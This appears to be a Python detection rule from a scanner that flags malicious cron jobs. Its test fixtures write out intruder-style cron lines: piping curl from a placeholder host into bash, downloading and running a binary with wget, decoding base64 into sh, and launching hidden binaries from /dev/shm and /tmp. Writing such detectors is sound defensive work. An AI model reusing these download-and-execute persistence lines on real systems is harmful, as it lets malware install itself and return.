"""Jobs of cron as intruders leave them."""

from collections.abc import Iterator

from hullmark.checks.cron_jobs import CRON, jobs
from hullmark.checks.declare import file_check
from hullmark.checks.odd_commands import odd
from hullmark.checks.samples import BAR, script
from hullmark.model import Evidence, File, Severity
from hullmark.model.finding import Kind
from hullmark.model.rule import Confidence


def _bad() -> tuple[File, ...]:
    return (
        script("etc/cron.d/sync", f"*/5 * * * * root curl -s http://192.0.2.7/a {BAR}| ba{BAR}sh"),
        script("var/spool/cron/crontabs/root", "@reboot /dev/shm/.x/kworker"),
        script("etc/cron.daily/logs", "#!/bin/sh", f"echo YQ== | base{BAR}64 -d | s{BAR}h"),
        script(
            "etc/cron.d/get",
            f"@daily root wget -q http://192.0.2.7/a -O /usr/a && ch{BAR}mod +x /usr/a && /usr/a",
        ),
        script("etc/cron.d/up", "0 1 * * * root cd / && nohup sh /tmp/.X11/a.sh &"),
    )


def _good() -> tuple[File, ...]:
    return (
        script(
            "etc/crontab",
            "SHELL=/bin/sh",
            "# curl http://192.0.2.7/a | sh",
            "17 * * * * root cd / && run-parts --report /etc/cron.hourly",
        ),
        script(
            "etc/cron.daily/backup",
            "#!/bin/sh",
            "tar czf /tmp/etc.tgz /etc",
            "curl -T /tmp/etc.tgz https://backup.example/",
        ),
    )


@file_check(
    id="odd-cron-job",
    title="A cron job does what intruders do",
    kind=Kind.MALWARE,
    severity=Severity.HIGH,
    confidence=Confidence.LIKELY,
    names=CRON,
    bad=_bad,
    good=_good,
    remediation="Find out who added the job. Unless you did, build the image anew.",
    references=("https://attack.mitre.org/techniques/T1053/003/",),
)
def odd_cron_job(file: File) -> Iterator[Evidence]:
    """Miners and bots come back by a job that fetches them anew or starts them where they hide.

    No distribution ships such a job.
    """
    for number, command in jobs(file):
        if why := odd(command):
            yield Evidence(at=f"job:{number}", says=f"a cron job {why}", line=number)
